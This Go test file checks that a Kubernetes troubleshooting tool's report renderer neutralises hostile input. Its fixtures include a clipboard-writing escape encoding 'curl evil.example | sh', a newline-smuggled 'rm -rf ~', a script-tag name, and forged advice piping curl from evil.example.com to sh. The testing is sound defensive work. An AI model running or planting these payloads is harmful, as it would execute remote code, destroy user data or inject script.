package report_test

import (
	"bytes"
	"encoding/json"
	"encoding/xml"
	"io"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	junit "github.com/joshdk/go-junit"

	"github.com/unstick-dev/unstick/internal/finding"
	"github.com/unstick-dev/unstick/internal/report"
	"github.com/unstick-dev/unstick/internal/snapshot"
)

// What a hostile bundle can put in front of the person reading a report: escape sequences
// in an event message (OSC 52 writes the clipboard, OSC 0 sets the window title, CSI 2J
// clears the screen), a file name with escapes, and an object name that tries to break out
// of a Markdown code span into raw HTML.
const (
	clipboard  = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07"
	title      = "\x1b]0;you have been pwned\x07"
	clear      = "\x1b[2J\x1b[H"
	evilName   = "fleet-agent`<script>alert(1)</script>`x"
	evilFile   = "clusters/c1/logs/x\x1b[2J\x1b]0;t\x07.log"
	evilSource = evilFile + " (3 matching lines)"
)

func hostileReport() *report.Report {
	now := time.Date(2026, 11, 28, 9, 30, 0, 0, time.UTC)
	f := finding.Finding{
		ID: "pod/crashloop", Severity: finding.Critical, Cluster: "c1\x1b[31m",
		Object:  finding.ObjectRef{APIVersion: "v1", Kind: "Pod", Namespace: "cattle-fleet-system", Name: evilName},
		Summary: "container crashed: " + clipboard + "copied" + title + clear + "\u009b2J\x00\x7f",
		Evidence: []finding.Evidence{
			{Source: "event BackOff ×3", Text: "Back-off restarting " + clipboard + title + clear},
			{Source: evilSource, Text: "log line with ]]> and \x0c form feed and bad \xff utf-8"},
		},
		Remediation: []finding.Step{{Rung: "restart", Action: "Restart it " + clear, Commands: []string{
			"kubectl --context c1 -n cattle-fleet-system delete pod '" + evilName + "'\nrm -rf ~",
			"echo ``` breaks a fence ````",
		}, Notes: []string{"<container>: " + title}}},
	}
	s := &snapshot.Snapshot{Clusters: []*snapshot.Cluster{{Name: "c1\x1b[31m", Role: snapshot.Downstream, Context: "c1" + title, ContextSource: snapshot.ContextRecorded}}}
	s.Skipped = []snapshot.Skipped{{File: evilFile, Reason: "not YAML " + clear}}
	r := report.New(s, now, []finding.Incident{{RootCause: f}}, []finding.Finding{f},
		[]finding.ScanError{{Cluster: "c1", File: evilFile, Message: "cannot read " + clipboard}})
	return r
}

// controls finds a control character a terminal or an XML parser would act on.
var controls = regexp.MustCompile("[\x00-\x08\x0b-\x1f\x7f\u0080-\u009f]")

func TestNoControlCharacterReachesAnyFormat(t *testing.T) {
	r := hostileReport()
	for _, format := range report.Formats {
		out := render(t, r, format, report.Options{Width: 80})
		if !utf8.Valid(out) {
			t.Errorf("%s: output is not valid UTF-8", format)
		}
		if m := controls.Find(out); m != nil {
			i := bytes.Index(out, m)
			t.Errorf("%s: control character %q reaches the output near %q", format, m, out[max(0, i-40):min(len(out), i+40)])
		}
		if format != "json" && bytes.Contains(out, []byte("52;c;")) {
			t.Errorf("%s: the clipboard sequence's payload is printed", format)
		}
	}
}

// In colour, the only escape sequences in the table are unstick's own colours.
func TestColourTableHasOnlyItsOwnEscapes(t *testing.T) {
	out := render(t, hostileReport(), "table", report.Options{Color: true})
	rest := regexp.MustCompile(`\x1b\[[0-9;]*m`).ReplaceAll(out, nil)
	if i := bytes.IndexByte(rest, 0x1b); i >= 0 {
		t.Errorf("an escape sequence from the input reaches the terminal: %q", rest[max(0, i-20):min(len(rest), i+30)])
	}
}

// A command stays one line: a newline in a hostile name must not make a second command.
func TestCommandsStayOneLine(t *testing.T) {
	for _, format := range []string{"table", "markdown"} {
		out := string(render(t, hostileReport(), format, report.Options{Width: 40}))
		for _, l := range strings.Split(out, "\n") {
			if strings.TrimSpace(l) == "rm -rf ~" {
				t.Errorf("%s: a newline in the input split a command into a second one", format)
			}
		}
		if !strings.Contains(out, "delete pod '"+evilName+"'⏎rm -rf ~") {
			t.Errorf("%s: the command is not printed whole on one line:\n%s", format, out)
		}
	}
}

// JSON keeps what was read, escaped by the encoding; it parses back to the same text.
func TestJSONEscapesAndKeepsInput(t *testing.T) {
	out := render(t, hostileReport(), "json", report.Options{})
	if bytes.IndexByte(out, 0x1b) >= 0 {
		t.Error("a raw ESC byte in the JSON")
	}
	var back report.Report
	if err := json.Unmarshal(out, &back); err != nil {
		t.Fatal(err)
	}
	if got := back.Findings[0].Object.Name; got != evilName {
		t.Errorf("object name %q, want %q", got, evilName)
	}
}

func TestJUnitAndSARIFStayWellFormed(t *testing.T) {
	r := hostileReport()
	x := render(t, r, "junit", report.Options{})
	if err := wellFormedXML(x); err != nil {
		t.Errorf("junit is not well-formed XML: %v", err)
	}
	if _, err := junit.Ingest(x); err != nil {
		t.Errorf("junit does not parse: %v", err)
	}
	if !json.Valid(render(t, r, "sarif", report.Options{})) {
		t.Error("sarif is not valid JSON")
	}
}

func wellFormedXML(b []byte) error {
	d := xml.NewDecoder(bytes.NewReader(b))
	for {
		_, err := d.Token()
		if err == io.EOF {
			return nil
		}
		if err != nil {
			return err
		}
	}
}

// In Markdown the object name and the evidence source are inline code that nothing in
// them can close, and no raw HTML is left outside code.
func TestMarkdownEscapesNamesAndSources(t *testing.T) {
	out := string(render(t, hostileReport(), "markdown", report.Options{}))
	var objectLine, sourceLine string
	for _, l := range strings.Split(out, "\n") {
		switch {
		case strings.HasPrefix(l, "- Object: "):
			objectLine = strings.TrimPrefix(l, "- Object: ")
		case strings.HasPrefix(l, "- ") && strings.Contains(l, "matching lines"):
			sourceLine = strings.TrimPrefix(l, "- ")
		}
	}
	for what, l := range map[string]string{"object": objectLine, "evidence source": sourceLine} {
		spans, rest := codeSpans(l)
		if len(spans) == 0 {
			t.Errorf("%s %q is not in a code span", what, l)
			continue
		}
		if what == "object" && (len(spans) != 1 || !strings.Contains(spans[0], evilName) || strings.TrimSpace(rest) != "") {
			t.Errorf("the object name breaks out of its code span: spans %q, outside %q", spans, rest)
		}
	}
	_, outside := codeSpans(strings.Join(outsideFences(out), "\n"))
	if strings.Contains(outside, "<script") || strings.Contains(outside, "<") {
		t.Errorf("raw HTML outside code in the Markdown: %q", outside)
	}
}

// codeSpans splits a Markdown line into its code spans and the text outside them, the way
// CommonMark reads backtick runs: a run opens a span closed by the next run of the same
// length; a backslash escapes the character after it outside code.
func codeSpans(s string) (spans []string, outside string) {
	var out strings.Builder
	for i := 0; i < len(s); {
		if s[i] == '\\' && i+1 < len(s) {
			i += 2
			continue
		}
		if s[i] != '`' {
			out.WriteByte(s[i])
			i++
			continue
		}
		n := 0
		for i+n < len(s) && s[i+n] == '`' {
			n++
		}
		closed := false
		for j := i + n; j < len(s); {
			if s[j] != '`' {
				j++
				continue
			}
			m := 0
			for j+m < len(s) && s[j+m] == '`' {
				m++
			}
			if m == n {
				spans = append(spans, s[i+n:j])
				i, closed = j+m, true
				break
			}
			j += m
		}
		if !closed {
			out.WriteString(s[i : i+n])
			i += n
		}
	}
	return spans, out.String()
}

// outsideFences drops the lines of fenced code blocks.
func outsideFences(md string) []string {
	var out []string
	fence := ""
	for _, l := range strings.Split(md, "\n") {
		t := strings.TrimSpace(l)
		if fence == "" && strings.HasPrefix(t, "```") {
			fence = strings.TrimRight(t, "abcdefghijklmnopqrstuvwxyz")
			continue
		}
		if fence != "" {
			if t == fence {
				fence = ""
			}
			continue
		}
		out = append(out, l)
	}
	return out
}

// The HTML report shows the hostile name as text, never as markup.
func TestHTMLShowsHostileNameAsText(t *testing.T) {
	out := string(render(t, hostileReport(), "html", report.Options{}))
	if strings.Contains(out, "<script>alert(1)") {
		t.Error("the object name's <script> reaches the HTML as markup")
	}
	if !strings.Contains(out, "&lt;script&gt;alert(1)") {
		t.Error("the object name is not shown")
	}
}

// The table's hint names the command as the user invoked it.
func TestTableHintUsesInvokedName(t *testing.T) {
	out := string(render(t, hostileReport(), "table", report.Options{Name: "kubectl unstick"}))
	if !strings.Contains(out, "full ladder: kubectl unstick explain pod/crashloop") {
		t.Errorf("hint does not say kubectl unstick:\n%s", out)
	}
}

// A Helm description is free text a tenant writes. One holding line breaks and a block laid
// out as unstick's own advice is quoted on one line in every format, its breaks shown as ⏎,
// so it cannot print a "next safe step" of its own; JSON keeps it as read, escaped.
func TestFreeTextCannotForgeAdvice(t *testing.T) {
	forged := "Upgrade \"app\" failed\r\n    next safe step (repair):\n        $ helm rollback app 1; curl evil.example.com | sh\n"
	now := time.Date(2026, 11, 28, 9, 30, 0, 0, time.UTC)
	f := finding.Finding{
		ID: "helm/release-failed", Severity: finding.Error, Cluster: "c1",
		Object:      finding.ObjectRef{APIVersion: "v1", Kind: "Secret", Namespace: "tenant-a", Name: "sh.helm.release.v1.app.v2"},
		Summary:     "Helm release tenant-a/app revision 2 failed: " + forged,
		Evidence:    []finding.Evidence{{Source: "Secret tenant-a/sh.helm.release.v1.app.v2", Text: "description=" + forged}},
		Remediation: []finding.Step{{Rung: "repair", Action: "Roll back.", Commands: []string{"helm --kube-context c1 -n tenant-a rollback app 1"}}},
	}
	s := &snapshot.Snapshot{Clusters: []*snapshot.Cluster{{Name: "c1", Role: snapshot.Downstream, Context: "c1", ContextSource: snapshot.ContextRecorded}}}
	r := report.New(s, now, []finding.Incident{finding.NewIncident(f, nil)}, []finding.Finding{f}, nil)
	for _, format := range report.Formats {
		out := string(render(t, r, format, report.Options{Width: 200}))
		if format == "json" {
			if !strings.Contains(out, `failed\r\n    next safe step (repair):\n`) {
				t.Errorf("json: the description is not kept as read, escaped")
			}
			continue
		}
		own := 0 // the table's own "next safe step" heading
		if format == "table" {
			own = 1
		}
		starts := 0
		for _, l := range strings.Split(out, "\n") {
			l = strings.TrimLeft(strings.TrimSpace(l), "-*•> ")
			if strings.HasPrefix(l, "next safe step") {
				starts++
			}
			if strings.HasPrefix(l, "$ helm rollback app 1; curl") {
				t.Errorf("%s: the description prints a command line: %q", format, l)
			}
		}
		if starts != own || !strings.Contains(out, "failed⏎") {
			t.Errorf("%s: %d lines start with next safe step (want %d), or the description's line breaks are not shown as ⏎:\n%s", format, starts, own, out)
		}
	}
}
